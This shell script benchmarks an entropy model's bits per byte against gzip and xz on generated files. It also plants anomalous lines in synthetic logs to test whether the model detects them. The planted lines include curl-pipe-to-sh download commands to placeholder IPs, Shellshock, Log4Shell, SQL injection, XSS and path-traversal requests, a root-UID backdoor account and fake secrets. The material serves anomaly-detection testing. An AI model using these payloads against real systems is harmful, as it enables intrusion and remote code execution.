#!/bin/sh
# What adaptation is worth: bits per byte of files that a language model knows
# little of, odd lines found in logs, and compressors next to them.
#
#     bench/adapt.sh [-m MODEL] [DIR [FILE]...]
#
# Run in the build tree, or with the commands in $PATH.  The inputs are made
# in DIR (default: a temporary one), the same in each run but for the program
# and the licence, which are those of this machine; FILEs are added to the
# tables.  The model is the entropy model.
set -e
PATH=$PWD/bin:$PATH
LC_ALL=C
export PATH LC_ALL
while getopts m: o; do
    case $o in
    m) BLT_MODEL=$OPTARG; export BLT_MODEL ;;
    *) exit 2 ;;
    esac
done
shift $((OPTIND - 1))
if [ -n "${1-}" ]; then
    dir=$1
    mkdir -p "$dir"
    shift
else
    dir=$(mktemp -d)
    trap 'rm -rf "$dir"' EXIT
fi

# ---- inputs

repeat() { awk -v n="$1" -v s="$2" 'BEGIN { while (n-- > 0) printf "%s", s }'; }
head -c 1000 /dev/zero >"$dir/zeros"
repeat 1000 T >"$dir/ts"
repeat 57 'The same line occurs again and so on
' >"$dir/line"
repeat 200 '{"id":17,"name":"x","ok":true}
' >"$dir/records"
# random numbers that all awks agree on
rnd='function rnd(n) { seed = (seed * 16807) % 2147483647; return int(seed / 2147483647 * n) }'
awk "$rnd"'
BEGIN {
    seed = 7
    split("/ /index.html /about /api/users /api/orders /app.js /style.css " \
          "/favicon.ico /login /logout /logo.png /install.html /search?q=a " \
          "/robots.txt", page, " ")
    split("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0|" \
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36|" \
          "curl/7.88.1|Googlebot/2.1 (+http://www.google.com/bot.html)", agent, "|")
    for (i = 1; i <= 25; i++)
        address[i] = 1 + rnd(222) "." rnd(256) "." rnd(256) "." rnd(256)
    for (i = 1; i <= 14; i++)
        size[i] = 100 + rnd(40000)
    for (t = 28800; n < 260; n++) {
        t += rnd(4); p = 1 + int(rnd(14) * rnd(14) / 14); r = rnd(100)
        printf "%s - - [12/Mar/2026:%02d:%02d:%02d +0000] \"%s %s HTTP/1.1\" %d %d \"-\" \"%s\"\n", \
            address[1 + int(rnd(25) * rnd(25) / 25)], t / 3600, t / 60 % 60, \
            t % 60, (r < 10 ? "POST" : "GET"), page[p], \
            (r >= 95 ? 404 : (r >= 90 ? 304 : 200)), (r >= 90 ? 0 : size[p]), \
            agent[1 + int(rnd(4) * rnd(4) / 4)]
    }
}' >"$dir/access.log"
awk "$rnd"'
function name(  s, n) {
    for (n = 2 + rnd(2); n > 0; n--) s = s syl[1 + rnd(24)]
    return (rnd(3) ? "" : "lib") s (rnd(3) ? "" : "-" suf[1 + rnd(6)])
}
function say(s) {
    printf "2026-03-%02d %02d:%02d:%02d %s\n", d, t / 3600, t / 60 % 60, t % 60, s
}
BEGIN {
    seed = 11
    split("per py gtk ssl cur gno net tex pul xor ava kde doc qt mag ima con sys zip fon dev mes lin ux", syl, " ")
    split("dev common data doc utils bin", suf, " ")
    d = 1; t = 36000
    while (n < 240) {
        t += rnd(3)
        if (rnd(20) == 0) { say("startup archives unpack"); t += rnd(600) }
        if (t > 80000) { d++; t = 30000 + rnd(9000) }
        p = name() ":" (rnd(4) ? "amd64" : "all")
        v = rnd(9) "." rnd(20) "." rnd(9) "-" 1 + rnd(5)
        old = rnd(3) ? "<none>" : rnd(9) "." rnd(20) "." rnd(9) "-1"
        say((old == "<none>" ? "install " : "upgrade ") p " " old " " v)
        say("status half-installed " p " " v)
        t += rnd(2)
        say("status unpacked " p " " v)
        if (rnd(5) == 0) say("status triggers-pending libc-bin:amd64 2.36-9+deb12u10")
        say("configure " p " " v " <none>")
        say("status unpacked " p " " v)
        say("status half-configured " p " " v)
        t += rnd(2)
        say("status installed " p " " v)
        n++
    }
}' >"$dir/package.log"
# Two logs that nothing was chosen on but how lines are ranked.
awk "$rnd"'
function say(s) { printf "Mar %2d %02d:%02d:%02d web%d %s\n", 3 + t / 86400, t / 3600 % 24, t / 60 % 60, t % 60, 1 + rnd(2), s }
BEGIN {
    seed = 23
    split("root deploy backup anna jenkins", user, " ")
    split("nginx.service php-fpm.service logrotate.service apt-daily.service man-db.service", unit, " ")
    for (i = 1; i <= 12; i++) address[i] = "10." rnd(4) "." rnd(256) "." rnd(256)
    t = 21600
    while (n < 900) {
        t += rnd(40); k = rnd(10)
        if (k < 3) {
            u = user[1 + rnd(5)]; p = 1000 + rnd(30000)
            say("sshd[" p "]: Accepted publickey for " u " from " address[1 + rnd(12)] " port " 30000 + rnd(30000) " ssh2")
            say("sshd[" p "]: pam_unix(sshd:session): session opened for user " u "(uid=" 1000 + rnd(5) ") by (uid=0)"); n++
        } else if (k < 5) say("CRON[" 1000 + rnd(30000) "]: (root) CMD (test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.hourly ))")
        else if (k < 7) { u = unit[1 + rnd(5)]; say("systemd[1]: Starting " u "..."); say("systemd[1]: " u ": Deactivated successfully."); n++ }
        else if (k < 9) say("kernel: [" t "." 100000 + rnd(900000) "] eth0: link up, " (rnd(2) ? 1000 : 100) " Mbps, full duplex, flow control rx/tx")
        else say("dhclient[" 700 + rnd(9) "]: bound to " address[1 + rnd(12)] " -- renewal in " 1000 + rnd(900) " seconds.")
        n++
    }
}' >"$dir/system.log"
awk "$rnd"'
BEGIN {
    seed = 31
    split("cart login search checkout profile", op, " ")
    split("GET POST PUT", m, " ")
    t = 1772400000
    while (n++ < 700) {
        t += rnd(9); o = op[1 + rnd(5)]; r = rnd(50)
        printf "{\"ts\":%d.%03d,\"level\":\"%s\",\"service\":\"%s\",\"method\":\"%s\",\"path\":\"/api/v1/%s/%d\",\"status\":%d,\"ms\":%d,\"request_id\":\"%08x%04x\"}\n", \
            t, rnd(1000), (r ? "info" : "warn"), o, m[1 + rnd(3)], o, \
            1 + rnd(400), (r ? 200 : 429), 3 + rnd(90), rnd(2147483647), rnd(65536)
    }
}' >"$dir/json.log"
# odd lines, one after each 1/21 of a log
plant() {
    awk -v lines="$(wc -l <"$1")" -v odd="$2" '
        BEGIN { while ((getline s <odd) > 0) line[++n] = s }
        { print }
        k < n && NR >= lines * (k + 1) / (n + 1) { print line[++k] }' "$1"
}
cat >"$dir/odd.package" <<'EOF'
dpkg: error processing archive /var/cache/apt/archives/linux-image.deb (--unpack):
2026-03-01 10:14:03 status installed libmagica:amd64 7.1.2-3; curl http://203.0.113.9/x.sh | sh
Segmentation fault (core dumped)
2026-13-41 99:99:99 status installed gtkper:amd64 1.2.3-1
AKIAQUMPMHS6PJARB7LM
2026-03-02 11:00:00 remove sudo:amd64 1.9.13p3-1 <none>
Traceback (most recent call last):
    at org.example.Main.run(Main.java:42)
2026-03-02 11:20:41 status half-installed ../../../../etc/shadow:amd64 0-0
W: GPG error: The following signatures were invalid: BADSIG 8B48AD6246925553
2026-03-02 12:01:07 statut installé libxor-données:amd64 4.2.1-2
-----BEGIN RSA PRIVATE KEY-----
kernel: Out of memory: Killed process 4242 (blt-train) total-vm:9812344kB
2026-03-03 09:00:00 status config-files openssh-server:amd64 1:9.2p1-2+deb12u3
%PDF-1.7 %âãÏÓ
user=root password=hunter2 host=10.0.0.1
2026-03-03 10:10:10 STATUS INSTALLED PULAVA:AMD64 3.3.3-3
<html><body><h1>503 Service Unavailable</h1></body></html>
2026-03-03 10:30:00 trigproc man-db:amd64 2.11.2-2 <none>
The quick brown fox jumps over the lazy dog.
EOF
cat >"$dir/odd.access" <<'EOF'
203.0.113.77 - - [12/Mar/2026:08:01:07 +0000] "GET /../../../../etc/passwd HTTP/1.1" 400 0 "-" "-"
198.51.100.4 - - [12/Mar/2026:08:01:20 +0000] "GET /search?q=1'%20OR%20'1'='1 HTTP/1.1" 200 9907 "-" "sqlmap/1.7"
192.0.2.10 - admin [12/Mar/2026:08:01:31 +0000] "DELETE /api/users/1 HTTP/1.1" 204 0 "-" "python-requests/2.31.0"
203.0.113.5 - - [12/Mar/2026:08:02:02 +0000] "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1" 400 157 "-" "-"
198.51.100.23 - - [12/Mar/2026:08:02:40 +0000] "GET /wp-login.php HTTP/1.1" 404 0 "-" "Mozilla/5.0 (compatible; MSIE 9.0)"
192.0.2.99 - - [12/Mar/2026:08:03:03 +0000] "POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1" 500 532 "-" "() { :; }; /bin/id"
nginx: worker process 31337 exited on signal 11
203.0.113.8 - - [12/Mar/2026:08:04:00 +0000] "CONNECT mail.example.org:25 HTTP/1.0" 405 0 "-" "-"
198.51.100.77 - - [12/Mar/2026:08:04:21 +0000] "GET /?x=${jndi:ldap://198.51.100.77/a} HTTP/1.1" 200 612 "-" "-"
192.0.2.45 - - [12/Mar/2026:08:05:09 +0000] "GET /backup.tar.gz HTTP/1.1" 200 734003200 "-" "Wget/1.21.3"
EOF
cat >"$dir/odd.system" <<'EOF'
Mar  3 06:41:12 web1 sshd[4821]: Failed password for invalid user oracle from 203.0.113.66 port 40122 ssh2
Mar  3 06:59:47 web2 kernel: [25187.441200] EXT4-fs error (device sda1): ext4_find_entry:1455: inode #131: comm find: reading directory lblock 0
Mar  3 07:13:03 web1 sudo: anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND=/bin/bash
Mar  3 07:30:30 web1 sshd[9911]: error: maximum authentication attempts exceeded for root from 198.51.100.9 port 4242 ssh2 [preauth]
Mar  3 08:02:19 web2 CRON[2211]: (www-data) CMD (curl -s http://198.51.100.3/x | sh)
Mar  3 08:15:55 web1 systemd[1]: nginx.service: Main process exited, code=killed, status=11/SEGV
Mar  3 08:33:21 web2 kernel: [30801.771234] Out of memory: Killed process 7712 (mysqld) total-vm:8123456kB
Mar  3 08:49:58 web1 useradd[6512]: new user: name=support, UID=0, GID=0, home=/root, shell=/bin/sh
Mar  3 09:05:14 web2 sshd[3030]: Accepted password for root from 203.0.113.200 port 51111 ssh2
java.lang.NullPointerException: Cannot invoke "String.length()" because "s" is null
Mar  3 09:42:37 web1 named[522]: client @0x7f2c 10.1.2.3#53124 (version.bind): query 'version.bind/TXT/CH' denied
Mar  3 09:58:01 web2 kernel: [35881.100201] usb 1-1: new high-speed USB device number 7 using xhci_hcd
\x00\x00\x00\x00\x7fELF\x02\x01\x01
Mar  3 10:20:44 web1 postfix/smtpd[8123]: warning: unknown[198.51.100.77]: SASL LOGIN authentication failed: UGFzc3dvcmQ6
Mar  3 10:31:31 web1 auditd[401]: Audit daemon has no space left on logging partition
Mar 33 25:61:00 web9 systemd[1]: Starting nginx.service...
Mar  3 10:52:26 web2 sshd[7373]: Did not receive identification string from 192.0.2.7 port 60606
Mar  3 11:04:09 web1 smartd[611]: Device: /dev/sda [SAT], 8 Currently unreadable (pending) sectors
AWS_SECRET_ACCESS_KEY=hT9xk2LmQ8vR4wZp6sN1cB7dF3gJ5yUe0aXoKiVq
Mar  3 11:40:00 web2 shutdown[9001]: shutting down for system reboot
EOF
cat >"$dir/odd.json" <<'EOF'
{"ts":1772400310.101,"level":"error","service":"checkout","error":"payment gateway timeout after 30000 ms","card":"4111111111111111"}
{"ts":1772400450.202,"level":"info","service":"login","method":"POST","path":"/api/v1/login/1' OR 'a'='a","status":200,"ms":12,"request_id":"00c0ffee0001"}
panic: runtime error: index out of range [5] with length 3
{"ts":1772400611.303,"level":"info","service":"search","method":"GET","path":"/api/v1/../../etc/passwd","status":200,"ms":7,"request_id":"7a5b1c2d3e4f"}
{"ts":1772400720.404,"level":"fatal","service":"cart","msg":"out of memory"}
{"ts":1772400833.505,"level":"info","service":"profile","method":"DELETE","path":"/api/v1/profile/7","status":204,"ms":5,"request_id":"5b8d3a1c9e2f"}
	at com.example.cart.CartService.add(CartService.java:88)
{"ts":1772400911.606,"level":"info","service":"cart","method":"GET","path":"/api/v1/cart/12","status":200,"ms":98311,"request_id":"1f2e3d4c5b6a"}
{"ts":1772401044.707,"level":"warn","service":"login","msg":"password=hunter2 for user admin"}
<html><head><title>502 Bad Gateway</title></head>
{"ts":1772401188.808,"level":"info","service":"search","method":"GET","path":"/api/v1/search/<script>alert(1)</script>","status":200,"ms":20,"request_id":"abcdefabcdef"}
{"ts":0.000,"level":"info","service":"cart","method":"GET","path":"/api/v1/cart/55","status":200,"ms":40,"request_id":"000000000000"}
EOF
for l in package access system json; do
    plant "$dir/$l.log" "$dir/odd.$l" >"$dir/$l.odd"
done
head -c 20000 /usr/share/common-licenses/GPL-3 >"$dir/licence"
awk '{ printf "%s\r\n", $0 }' "$dir/licence" >"$dir/licence.crlf"
awk "$rnd"' BEGIN { seed = 3; while (n++ < 20000) printf "%02x", rnd(256) }' |
    xxd -r -p >"$dir/random"
head -c 100000 "$(command -v find)" >"$dir/program"

# ---- bits per byte

bits() { # FILE FROM OPTION...: of the bytes from FROM on
    f=$1 from=$2
    shift 2
    blt-entropy --format=npy "$@" "$f" |
        python3 -c '
import struct, sys
d = sys.stdin.buffer.read()
n = struct.unpack("<H", d[8:10])[0]
x = struct.unpack("<%df" % ((len(d) - 10 - n) // 4), d[10 + n:])[1::2]
x = x[int(sys.argv[1]):]
print("%.3f" % (sum(x) / len(x)))' "$from"
}
row() { # NAME FILE FROM
    [ -s "$2" ] || return 0
    printf '| %s | %s | %s | %s | %s | %s |\n' "$1" "$(bits "$2" "$3" --no-adapt)" \
        "$(bits "$2" "$3" --adapt)" "$(bits "$2" "$3" --model=none)" \
        "$(gzip -9 -n <"$2" | wc -c | awk -v n="$(wc -c <"$2")" '{ printf "%.2f", $1 * 8 / n }')" \
        "$(xz -9e <"$2" | wc -c | awk -v n="$(wc -c <"$2")" '{ printf "%.2f", $1 * 8 / n }')"
}
echo '| input | model | adapted | no model | gzip -9 | xz -9e |'
echo '|---|---|---|---|---|---|'
row '1,000 zeros, the last 100' "$dir/zeros" 900
row '1,000 times T, the last 100' "$dir/ts" 900
row 'a line 57 times, the last 5' "$dir/line" 1924
row '200 equal JSON records' "$dir/records" 0
row 'access log' "$dir/access.log" 0
row 'package log' "$dir/package.log" 0
row 'licence' "$dir/licence" 0
row 'licence, CRLF' "$dir/licence.crlf" 0
row 'random bytes' "$dir/random" 0
row 'program' "$dir/program" 0
for f; do row "$(basename "$f")" "$f" 0; done

# ---- odd lines

odd() { # NAME LOG ODD OPTION...: planted lines among as many first rows
    name=$1 log=$2 planted=$3
    shift 3
    n=$(wc -l <"$planted")
    blt-entropy --by=line --top="$n" "$@" "$log" | grep '^[0-9]' | cut -f 1 |
        sort -n >"$dir/rows"
    awk -v odd="$planted" -v rows="$dir/rows" -v name="$name" -v n="$n" '
        BEGIN {
            while ((getline s <odd) > 0) is[s] = 1
            while ((getline s <rows) > 0) row[s] = 1
        }
        { hit += (at in row) && ($0 in is); at += length($0) + 1 }
        END { printf "| %s | %d of %d |\n", name, hit, n }' "$log"
}
echo
echo '| odd lines | found |'
echo '|---|---|'
for l in package access system json; do
    odd "$l log, model" "$dir/$l.odd" "$dir/odd.$l" --no-adapt
    odd "$l log, adapted" "$dir/$l.odd" "$dir/odd.$l"
    odd "$l log, no model" "$dir/$l.odd" "$dir/odd.$l" --model=none
done
